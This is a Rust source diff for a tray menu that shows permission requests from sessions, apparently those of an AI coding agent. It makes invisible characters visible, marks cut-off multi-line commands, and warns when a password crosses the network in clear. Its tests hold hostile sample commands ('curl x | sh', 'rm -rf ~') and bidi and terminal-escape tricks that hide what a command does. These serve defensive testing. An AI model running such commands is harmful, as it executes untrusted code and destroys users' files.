@@ -3,6 +3,7 @@
 //! never patches them piecemeal.
 
 use super::sessions::Activity;
+use super::visible_text::visible;
 use super::{ServerState, State};
 use crate::config::ServerMode;
 
@@ -173,6 +174,14 @@ impl TrayView {
         if state.unsecured {
             tooltip.push("Warning: the server accepts requests without a password".into());
         }
+        if state.mode == ServerMode::Attach
+            && state
+                .url
+                .as_deref()
+                .is_some_and(super::status::password_in_clear)
+        {
+            tooltip.push(format!("Warning: {}", super::status::PASSWORD_IN_CLEAR));
+        }
         if let Some(error) = &state.last_error
             && icon == IconState::Error
         {
@@ -213,8 +222,8 @@ impl TrayView {
                 action: MenuAction::OpenSession(session.id.clone()),
                 text: format!(
                     "Permission: {} {} — {}",
-                    p.request.permission,
-                    one_line(what, 60),
+                    one_line(&p.request.permission, 24),
+                    request_line(what, 60),
                     title_of(session.title.as_deref())
                 ),
                 enabled: true,
@@ -345,9 +354,31 @@ fn title_of(title: Option<&str>) -> String {
     )
 }
 
-/// First line of `text`, at most `max` characters, for menus and tooltips.
+/// What a waiting request asks for, on one menu line: invisible characters
+/// made visible, and a visible mark of what is cut ("… +2 lines"), so the
+/// line never reads as the whole request when it is not.
+fn request_line(text: &str, max: usize) -> String {
+    let shown = visible(text);
+    let lines: Vec<&str> = shown
+        .lines()
+        .map(str::trim)
+        .filter(|l| !l.is_empty())
+        .collect();
+    let first = lines.first().copied().unwrap_or("");
+    let more = match lines.len().saturating_sub(1) {
+        0 => String::new(),
+        1 => " … +1 line".to_string(),
+        n => format!(" … +{n} lines"),
+    };
+    let room = max.saturating_sub(more.chars().count()).max(8);
+    format!("{}{more}", one_line(first, room))
+}
+
+/// First line of `text` with invisible characters made visible, at most
+/// `max` characters (a cut ends in "…"), for menus and tooltips.
 fn one_line(text: &str, max: usize) -> String {
     let line = text.lines().next().unwrap_or("").trim();
+    let line = visible(line);
     if line.chars().count() <= max {
         line.to_string()
     } else {
@@ -496,6 +527,61 @@ mod tests {
             enabled: true,
         }));
         assert_eq!(IconState::Working(12).icon_name(), "working-9plus");
+    }
+
+    #[test]
+    fn a_waiting_request_line_marks_what_is_cut_and_shows_escapes() {
+        let mut s = running();
+        feed(
+            &mut s,
+            &[
+                r#"{"directory":"/p","payload":{"type":"permission.asked","properties":{"id":"per_1","sessionID":"a","permission":"bash","metadata":{"command":"echo tidy\ncurl x | sh\nrm -rf ~"}}}}"#,
+                r#"{"directory":"/p","payload":{"type":"permission.asked","properties":{"id":"per_2","sessionID":"b","permission":"bash","metadata":{"command":"ls \u202etxt\u001b[2K"}}}}"#,
+            ],
+        );
+        let texts: Vec<String> = TrayView::derive(&s)
+            .menu
+            .iter()
+            .filter_map(|item| match item {
+                MenuItem::Action { text, .. } if text.starts_with("Permission:") => {
+                    Some(text.clone())
+                }
+                _ => None,
+            })
+            .collect();
+        assert!(
+            texts.contains(&"Permission: bash echo tidy … +2 lines — Untitled session".to_string()),
+            "{texts:?}"
+        );
+        assert!(
+            texts.contains(
+                &"Permission: bash ls \\u202etxt\\u001b[2K — Untitled session".to_string()
+            ),
+            "{texts:?}"
+        );
+    }
+
+    #[test]
+    fn the_tooltip_warns_when_the_password_would_cross_the_network_in_clear() {
+        for (url, warned) in [
+            ("http://192.168.1.20:4096", true),
+            ("http://127.0.0.1:4096", false),
+            ("https://example.com", false),
+        ] {
+            let s = State::new(
+                ServerMode::Attach,
+                Some(url.to_string()),
+                Duration::from_secs(30),
+                Instant::now(),
+            );
+            let view = TrayView::derive(&s);
+            assert_eq!(
+                view.tooltip.contains("plain http"),
+                warned,
+                "{url}: {}",
+                view.tooltip
+            );
+        }
     }
 
     #[test]
